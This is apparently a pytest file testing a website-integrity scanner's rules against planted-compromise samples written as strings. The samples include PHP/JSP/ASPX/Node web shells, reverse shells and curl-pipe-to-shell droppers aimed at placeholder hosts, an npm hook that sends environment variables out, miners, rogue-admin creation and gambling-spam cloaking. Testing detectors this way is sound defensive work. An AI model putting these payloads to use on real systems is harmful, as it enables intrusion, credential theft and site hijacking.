"""Recall of the compromise packs: variants of our own of what intruders plant, each found.

None is a working sample: hosts end in .invalid or are documentation addresses.
"""

import base64
import codecs

import pytest

from vetting.content import load
from vetting.engines.files.matching import File, Matcher
from vetting.engines.files.rules import load as rules_of
from vetting.engines.words import Words

_PAYLOAD = base64.b64encode(b"echo 'contoh';" * 40).decode()
_HEX = "".join(f"\\x{ord(c):02x}" for c in "system")

WEB_SHELLS = {
    "eval-post": ("a.php", "<?php @eval($_POST['x']); ?>"),
    "assert-request": ("a.php", "<?php assert($_REQUEST['c']);"),
    "system-get": ("tmp/b.php", "<?php if(isset($_GET['cmd'])){ system($_GET['cmd'] . ' 2>&1'); }"),
    "backticks": ("a.php", "<?php echo `$_GET[c]`;"),
    "variable-function": ("a.php", "<?php $_GET['f']($_GET['x']);"),
    "replace-e": ("a.php", "<?php preg_replace('/.*/e', $_POST['x'], '');"),
    "create-function": (
        "a.php",
        "<?php $f = create_function('', base64_decode('eA==')); eval(base64_decode($_POST['z']));",
    ),
    "gzinflate-chain": ("a.php", f"<?php eval(gzinflate(str_rot13(base64_decode('{_PAYLOAD}'))));"),
    "gzuncompress": ("a.php", f"<?php @eval(gzuncompress(base64_decode('{_PAYLOAD}')));"),
    "rot13-name": ("a.php", f"<?php eval(str_rot13('{codecs.encode('system(1);', 'rot13')}'));"),
    "pieces": ("a.php", "<?php $t = 'ass'.'ert'; $t($_POST['x']);"),
    "pieces-decode": ("a.php", "<?php $d = 'base'.'64_dec'.'ode'; $e = $d('eA==');"),
    "xor-text": ("a.php", "<?php $a = ('!'.'1') ; $f = '%ab' ^ '@zz'; $f($_POST['a']);"),
    "chr-chain": (
        "a.php",
        "<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109).chr(0); $f('id');",
    ),
    "array-map": ("a.php", "<?php array_map('assert', array($_REQUEST['x']));"),
    "call-user-func": ("a.php", "<?php call_user_func($_GET['f'], $_GET['x']);"),
    "input-stream": ("a.php", "<?php eval(file_get_contents('php://input'));"),
    "include-input": ("a.php", "<?php include('php://input');"),
    "encrypted-channel": (
        "a.php",
        "<?php for($i=0;$i<strlen($d);$i++) { $d[$i] = $d[$i]^$k[$i+1&15]; } eval($d);",
    ),
    "header-command": ("a.php", "<?php @system(base64_decode($_SERVER['HTTP_X_CMD']));"),
    "cookie-eval": ("a.php", "<?php @eval(base64_decode($_COOKIE['s']));"),
    "upload-own-name": (
        "up.php",
        "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
    ),
    "gif-head": ("logo.gif", "GIF89a\x01\x00<?php system($_GET['c']); ?>"),
    "jpg-comment": ("foto.jpg", "\xff\xd8\xff\xfe\x00\x20<?php eval($_POST['x']); ?>\x00"),
    "ico": ("favicon.ico", "<?php $a = base64_decode($_POST['q']); eval($a);"),
    "jsp": ("a.jsp", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
    "jsp-builder": (
        "a.jspx",
        '<jsp:scriptlet>new ProcessBuilder(request.getParameter("c").split(" ")).start();</jsp:scriptlet>',
    ),
    "aspx": ("a.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'),
    "node": ("a.js", "require('child_process').exec(req.query.c, (e, o) => res.send(o));"),
    "node-eval": ("a.js", "app.post('/x', (req, res) => { eval(req.body.kode) });"),
    "flask": ("a.py", "return os.popen(request.args.get('c')).read()"),
    "panel": (
        "a.php",
        "<?php echo php_uname(); print_r(posix_getpwuid(1)); echo ini_get('disable_functions'); $p = popen($c,'r'); echo fileperms($f); move_uploaded_file($a,$b); ?>",
    ),
    "named": ("x.php", "<?php /* b374k 3.2 priv8 */ ?>"),
    "named-panel": ("x.php", "<title>Mini Shell</title><?php $x = shell_exec($cmd); ?>"),
}
PERSISTENCE = {
    "user-ini": (".user.ini", "auto_prepend_file = /var/www/html/img/logo.jpg"),
    "htaccess-prepend": (".htaccess", "php_value auto_prepend_file /tmp/.a"),
    "htaccess-handler": ("uploads/.htaccess", "AddType application/x-httpd-php .jpg .png"),
    "masked-include": ("wp-config.php", '<?php @include "\\057hom\\x65/a\\x2f\\x2ei\\143o";'),
    "front-controller": (
        "public/index.php",
        "<?php\n@include 'images/logo.ico';\ndefine('LARAVEL_START', 1);",
    ),
    "front-controller-ci": (
        "index.php",
        "<?php $r = file_get_contents('https://lain.invalid/'.$u);\ndefine('FCPATH', __DIR__);",
    ),
    "double-extension": ("unggah/ktp.jpg.php", "<?php"),
    "hidden-script": ("assets/.a.php", "<?php include base64_decode('eA==');"),
    "in-uploads": ("wp-content/uploads/2026/01/a.php", "<?php $x = 1; ?>"),
    "cron": (
        "a.php",
        "<?php shell_exec('(crontab -l;echo \"* * * * * wget -qO- http://lain.invalid|sh\")|crontab -');",
    ),
    "bare-address": ("deploy.sh", "wget -qO- http://203.0.113.7/m.sh | sh"),
    "reverse-shell": ("a.sh", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"),
    "reverse-shell-python": ("a.py", "import pty; pty.spawn('/bin/bash')"),
    "ssh-key": (
        "a.php",
        "<?php file_put_contents('/home/layanan/.ssh/authorized_keys','ssh-rsa AAAAB3 x',8);",
    ),
    "npm-postinstall": ("package.json", '{"scripts":{"preinstall":"node -e \\"require(1)\\""}}'),
    "composer-script": (
        "composer.json",
        '{"scripts":{\n"post-update-cmd": "curl -s https://lain.invalid/a.sh | sh"}}',
    ),
    "setup-py": ("setup.py", "exec(base64.b64decode('eA=='))"),
    "miner-script": ("jalan.sh", "./php -o stratum+tcp://kolam.invalid:4444 -u x"),
    "miner-page": (
        "footer.php",
        "<script>var m = new CoinHive.Anonymous('k'); m.start();</script>",
    ),
    "miner-config": ("config.json", '{"donate-level": 0, "algo": "rx/0", "pools": []}'),
}
GAMBLING = {
    "title": ("index.html", "<title>Situs Slot Gacor Maxwin Terpercaya</title>"),
    "togel": ("index.php", "<h1>Bandar Togel Online dan Slot88</h1>"),
    "description": ("a.php", '<meta name="description" content="daftar judi bola sbobet resmi">'),
    "amp": ("amp/index.html", '<link rel="amphtml" href="https://lain.invalid/amp"><h1>Mahjong Ways 2</h1>'),
    "canonical": ("a.html", '<link rel="canonical" href="https://lain.invalid/"><title>SLOT GACOR</title>'),
    "json-ld": ("p.html", '<script type="application/ld+json">{"@type":"Product","name":"SLOT GACOR","brand":"SLOT88"}</script>'),
    "dump": ("db.sql", "INSERT INTO wp_posts VALUES (9,'Link slot gacor hari ini','agen judi online');"),
    "keywords": ("kata.txt", "slot-gacor\nslot-dana\nrtp-live\nsitus-slot\n"),
    "kit": ("lp.php", "<?php $k = file('daftar.txt'); $b = ucwords(str_replace('-', ' ', $_GET['daftar'])); $g = crc32($b) % 12; echo '<link rel=\"canonical\" href=\"x\">';"),
    "kit-amp": ("i.php", "<?php $q = $_GET['id']; $l = file_get_contents('kw.txt'); $t = ucwords(str_replace('-',' ',$q)); echo '<link rel=\"amphtml\">';"),
    "cloak-fetch": ("a.php", "<?php if(preg_match('/googlebot/i',$_SERVER['HTTP_USER_AGENT'])){ echo file_get_contents('https://lain.invalid/lp.html'); exit; }"),
    "cloak-include": ("index.php", "<?php if (stripos($_SERVER['HTTP_USER_AGENT'],'googlebot')!==false) { include 'readme.html'; exit; }"),
    "cloak-list": ("index.php", "<?php $ua=strtolower($_SERVER['HTTP_USER_AGENT']); foreach(['googlebot','bingbot'] as $b){ if(strpos($ua,$b)!==false){ readfile('lp.html'); exit; } }"),
    "cloak-referrer": ("a.php", "<?php if(strpos($_SERVER['HTTP_REFERER'],'google.co')!==false){ header('Location: https://lain.invalid/'); }"),
    "cloak-page": ("a.html", "<script>if(document.referrer.indexOf('google')>0){window.location='https://lain.invalid/';}</script>"),
    "cloak-htaccess": (".htaccess", "RewriteCond %{HTTP_USER_AGENT} googlebot [NC]\nRewriteRule .* lp.php [L]\n"),
    "hidden-off-page": ("a.html", '<div style="position:absolute;left:-5000px"><a href="https://a.invalid">slot online</a><a href="https://b.invalid">togel</a></div>'),
    "hidden-none": ("footer.php", '<div style="display:none;"><a href="http://a.invalid">Slot88</a> | <a href="http://a.invalid/2">Judi Bola</a></div>'),
    "hidden-dump": ("db.sql", "(3,'<p>x</p><span style=\\\"font-size:0\\\"><a href=\\\"https://a.invalid/\\\">casino</a><a href=\\\"https://b.invalid/\\\">poker</a></span>')"),
    "hidden-many": ("a.html", '<div style="overflow:hidden;height:0px;"><a href="//a.invalid">a</a><a href="//b.invalid">b</a><a href="//c.invalid">c</a></div>'),
    "hidden-marquee": ("a.php", '<marquee style="width:1px;overflow:hidden;height:1px"><a href="http://a.invalid/">rtp slot</a><a href="http://b.invalid/">jackpot</a></marquee>'),
}  # fmt: skip
# Written without a look at the rules, 30 November 2026: 47 of 63 were found then. The rules have
# learned since; the one that is left out calls through `$GLOBALS`, whose content is not followed.
SECOND = {
    "popen-post": ("lib/c.php", "<?php $h = popen($_POST['perintah'], 'r'); while(!feof($h)) echo fgets($h); ?>"),
    "proc-open-header": ("i.php", "<?php proc_open($_SERVER['HTTP_X_JALAN'], [], $p);"),
    "filter-var-callback": ("a.php", "<?php filter_var($_REQUEST['x'], FILTER_CALLBACK, ['options' => 'assert']);"),
    "usort-callback": ("a.php", "<?php usort($_GET['a'], $_GET['f']);"),
    "register-shutdown": ("a.php", "<?php register_shutdown_function('system', $_GET['c']);"),
    "array-walk": ("a.php", "<?php $a = [$_POST['x']]; array_walk($a, 'assert');"),
    "base64-variable": ("b.php", "<?php $k = base64_decode('c3lzdGVt'); $k($_GET['q']);"),
    "strrev-name": ("b.php", "<?php $f = strrev('metsys'); $f($_POST['a']);"),
    "hex-name": ("b.php", "<?php $f = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $f($_REQUEST['a']);"),
    "octal-name": ("b.php", "<?php $f = \"\\163\\171\\163\\164\\145\\155\"; $f($_REQUEST['a']);"),
    "include-upload": ("b.php", "<?php include($_FILES['berkas']['tmp_name']);"),
    "include-data": ("b.php", "<?php @include 'data://text/plain;base64,' . $_POST['x'];"),
    "remote-eval": ("b.php", "<?php eval('?>' . file_get_contents('http://lain.invalid/s.txt'));"),
    "remote-curl-eval": ("b.php", "<?php $c = curl_init('https://lain.invalid/x'); curl_setopt($c, 19913, 1); eval(curl_exec($c));"),
    "dropper": ("b.php", "<?php file_put_contents('../public/x.php', base64_decode($_POST['isi']));"),
    "dropper-remote": ("b.php", "<?php copy('https://lain.invalid/w.txt', 'images/w.php');"),
    "goto-obfuscated": ("b.php", "<?php goto Ab3; Zx9: eval($qQ); goto E1; Ab3: $qQ = base64_decode($_POST['d']); goto Zx9; E1:"),
    "long-hex-blob": ("b.php", "<?php $z = '" + "68656c6c6f" * 120 + "'; eval(hex2bin($z));"),
    "short-tag": ("b.php", "<?=`$_GET[1]`?>"),
    "short-tag-func": ("b.php", "<?=$_GET[0]($_GET[1])?>"),
    "svg-script-php": ("ikon.svg", "<svg xmlns='http://www.w3.org/2000/svg'><?php system($_GET['c']); ?></svg>"),
    "png-tail": ("p.png", "\x89PNG\r\n\x1a\n" + "\x00" * 40 + "<?php eval(base64_decode($_POST['x'])); ?>"),
    "pdf-php": ("surat.pdf", "%PDF-1.4\n<?php passthru($_REQUEST['c']); ?>"),
    "htaccess-png": ("uploads/.htaccess", "<FilesMatch \"\\.png$\">\nSetHandler application/x-httpd-php\n</FilesMatch>"),
    "php-ini-disable": (".user.ini", "auto_append_file=\"/tmp/.sess\""),
    "web-config-handler": ("uploads/web.config", '<configuration><system.webServer><handlers><add name="x" path="*.jpg" verb="*" modules="FastCgiModule" scriptProcessor="C:\\php\\php-cgi.exe"/></handlers></system.webServer></configuration>'),
    "jsp-runtime-bytes": ("x.jsp", '<% byte[] b = new byte[1]; Process p = Runtime.getRuntime().exec(new String[]{"sh","-c",request.getParameter("q")}); %>'),
    "jsp-classloader": ("x.jsp", '<%! class U extends ClassLoader { Class g(byte[] b){ return super.defineClass(b,0,b.length);} } %><% new U().g(java.util.Base64.getDecoder().decode(request.getReader().readLine())).newInstance(); %>'),
    "aspx-process": ("x.aspx", '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["q"]); %>'),
    "asp-execute": ("x.asp", '<%execute request("x")%>'),
    "node-spawn": ("rute.js", "app.get('/z', (req, res) => { require('child_process').execSync(req.query.c) })"),
    "node-reverse": ("a.js", "var n=require('net'),s=require('child_process').spawn('/bin/sh',[]);var c=new n.Socket();c.connect(4444,'203.0.113.9',function(){c.pipe(s.stdin);s.stdout.pipe(c);});"),
    "python-exec": ("v.py", "@app.route('/z')\ndef z():\n    exec(request.args.get('k'))\n    return ''\n"),
    "python-reverse": ("a.py", "import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.9',4242));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"),
    "perl-cgi": ("a.cgi", "#!/usr/bin/perl\nuse CGI; print `$ENV{QUERY_STRING}`;"),
    "nc-shell": ("jalan.sh", "nc -e /bin/sh 203.0.113.9 4444"),
    "mkfifo": ("jalan.sh", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 443 >/tmp/f"),
    "cron-base64": ("pasang.sh", "echo 'KiAqICogKiAqIGN1cmwgeA==' | base64 -d | crontab -"),
    "curl-bash": ("pasang.sh", "curl -fsSL http://198.51.100.7/i.sh | bash"),
    "bashrc": ("pasang.sh", "echo 'curl -s http://203.0.113.4/k | sh' >> ~/.bashrc"),
    "systemd-miner": ("m.service", "[Service]\nExecStart=/opt/.x/xmrig -o pool.invalid:3333 --donate-level 1\n"),
    "miner-wasm": ("a.html", "<script src='https://lain.invalid/cryptonight.wasm.js'></script><script>new Client.Anonymous('k',{throttle:0.3}).start()</script>"),
    "npm-install-curl": ("package.json", '{"name":"x","scripts":{"postinstall":"curl -s http://203.0.113.8/a | bash"}}'),
    "npm-env-steal": ("package.json", '{"scripts":{"preinstall":"node -e \\"require(\'https\').get(\'https://lain.invalid/?\'+Buffer.from(JSON.stringify(process.env)).toString(\'hex\'))\\""}}'),
    "composer-exec": ("composer.json", '{"scripts": {"post-install-cmd": ["@php -r \\"eval(file_get_contents(\'http://lain.invalid/p\'));\\""]}}'),
    "setup-cmdclass": ("setup.py", "import os\nos.system('curl http://203.0.113.5/x | sh')\nfrom setuptools import setup\nsetup(name='x')\n"),
    "judol-title-2": ("index.html", "<title>SLOT88 - Link Alternatif Slot Gacor Hari Ini Server Thailand</title>"),
    "judol-amp": ("amp.html", '<html amp><head><title>Daftar Situs Toto Macau 4D Resmi</title></head>'),
    "judol-meta-kw": ("a.php", '<meta name="keywords" content="slot gacor, slot maxwin, rtp live, pragmatic play, judi slot">'),
    "judol-anchor-dump": ("wp.sql", "INSERT INTO `posts` VALUES (1,'<a href=\"https://lain.invalid\">situs slot gacor</a> <a href=\"https://lain.invalid/2\">togel online</a>');"),
    "judol-sitemap": ("sitemap.xml", "<urlset><url><loc>https://x.go.id/slot-gacor-hari-ini</loc></url><url><loc>https://x.go.id/slot88-maxwin</loc></url><url><loc>https://x.go.id/togel-online-terpercaya</loc></url></urlset>"),
    "judol-rewrite": (".htaccess", "RewriteEngine On\nRewriteCond %{HTTP_USER_AGENT} (googlebot|bingbot) [NC]\nRewriteRule ^(.*)$ slot.php?q=$1 [L]"),
    "cloak-ip": ("index.php", "<?php $ua = $_SERVER['HTTP_USER_AGENT']; if (preg_match('~(google|bing|yandex)bot~i', $ua)) { echo file_get_contents('https://lain.invalid/lp.txt'); die; }"),
    "cloak-js-referrer": ("a.html", "<script>if (/google\\.|bing\\./.test(document.referrer)) { location.replace('https://lain.invalid/slot'); }</script>"),
    "cloak-lang": ("index.php", "<?php if (strpos($_SERVER['HTTP_ACCEPT_LANGUAGE'],'id')!==false && stripos($_SERVER['HTTP_USER_AGENT'],'Googlebot')!==false) { include 'wp-content/cache/lp.php'; exit; }"),
    "hidden-clip": ("a.html", '<div style="position:absolute;clip:rect(0,0,0,0)"><a href="https://a.invalid">slot gacor</a><a href="https://b.invalid">togel</a></div>'),
    "hidden-negative-indent": ("a.html", '<p style="text-indent:-9999px"><a href="https://a.invalid">judi bola</a> <a href="https://b.invalid">poker online</a></p>'),
    "hidden-zindex": ("a.php", '<div style="z-index:-1;position:fixed;opacity:0"><a href="https://a.invalid">casino</a><a href="https://b.invalid">slot</a></div>'),
    "front-controller-eval": ("public/index.php", "<?php\nuse Illuminate\\Http\\Request;\ndefine('LARAVEL_START', microtime(true));\n@eval(base64_decode('ZWNobyAx'));\nrequire __DIR__.'/../vendor/autoload.php';"),
    "front-controller-ua": ("index.php", "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'bot')) { readfile('https://lain.invalid/p'); exit; }\ndefine('WP_USE_THEMES', true);\nrequire 'wp-blog-header.php';"),
    "wp-plugin-admin": ("wp-content/plugins/x/x.php", "<?php add_action('init', function(){ $u = wp_create_user('sys', 'x', 'a@lain.invalid'); (new WP_User($u))->set_role('administrator'); });"),
    "packed-eval-chain": ("b.php", f"<?php eval(gzuncompress(strrev(base64_decode('{_PAYLOAD}'))));"),
}  # fmt: skip
PACKS = {
    "second": SECOND,
    "web-shell": WEB_SHELLS,
    "persistence": PERSISTENCE,
    "gambling": GAMBLING,
}
CHECKS = (
    "integrity/cloaking", "integrity/cryptominer", "integrity/front-controller",
    "integrity/gambling-content", "integrity/persistence", "integrity/webshell",
    "security/install-scripts", "integrity/encoded-source",
)  # fmt: skip
VARIANTS = [(pack, name) for pack, samples in PACKS.items() for name in samples]


@pytest.fixture(scope="module")
def matchers():
    checks = load().checks
    return [Matcher(dict(rule.plain)) for name in CHECKS for rule in rules_of(checks[name])]


def words_of(matchers):
    return Words(word for matcher in matchers for word in matcher.words)


def test_there_are_enough_variants():
    assert len(WEB_SHELLS) + len(PERSISTENCE) >= 40
    assert len(VARIANTS) >= 60


@pytest.mark.parametrize(("pack", "name"), VARIANTS, ids=["-".join(v) for v in VARIANTS])
def test_a_planted_variant_is_found(pack, name, matchers):
    path, text = PACKS[pack][name]
    file = File(path, text.encode("latin-1"), words_of(matchers))
    assert any(matcher.wants(path) and matcher.hits(file) for matcher in matchers)


HARMLESS = {
    "news-about-gambling": ("berita.html", "<p>Polisi menangkap pelaku judi. Slot waktu layanan: 08.00.</p>"),
    "menu": ("a.html", '<ul style="display:none"><li><a href="https://mitra.invalid/">Mitra</a></li></ul>'),
    "agent-statistics": ("a.php", "<?php $robot = preg_match('/googlebot/i', $_SERVER['HTTP_USER_AGENT']); catat($robot);"),
    "backup-script": ("cadang.sh", "mysqldump warga | gzip > /srv/cadangan/warga.sql.gz"),
    "decode-only": ("a.php", "<?php $foto = base64_decode($isi); file_put_contents($nama, $foto);"),
    "front-controller": ("public/index.php", "<?php define('LARAVEL_START', microtime(true)); require 'a.php';"),
    "npm-scripts": ("package.json", '{"scripts": {"postinstall": "ngcc", "build": "curl -O https://contoh.go.id/a"}}'),
    "eval-text": ("a.php", "<?php echo 'evaluasi sistem'; $hasil = $nilai->eval($rumus);"),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
def test_harmless_neighbours_are_silent(name, matchers):
    path, text = HARMLESS[name]
    file = File(path, text.encode(), words_of(matchers))
    hits = [m.plain["id"] for m in matchers if m.wants(path) and m.hits(file)]
    assert hits == []
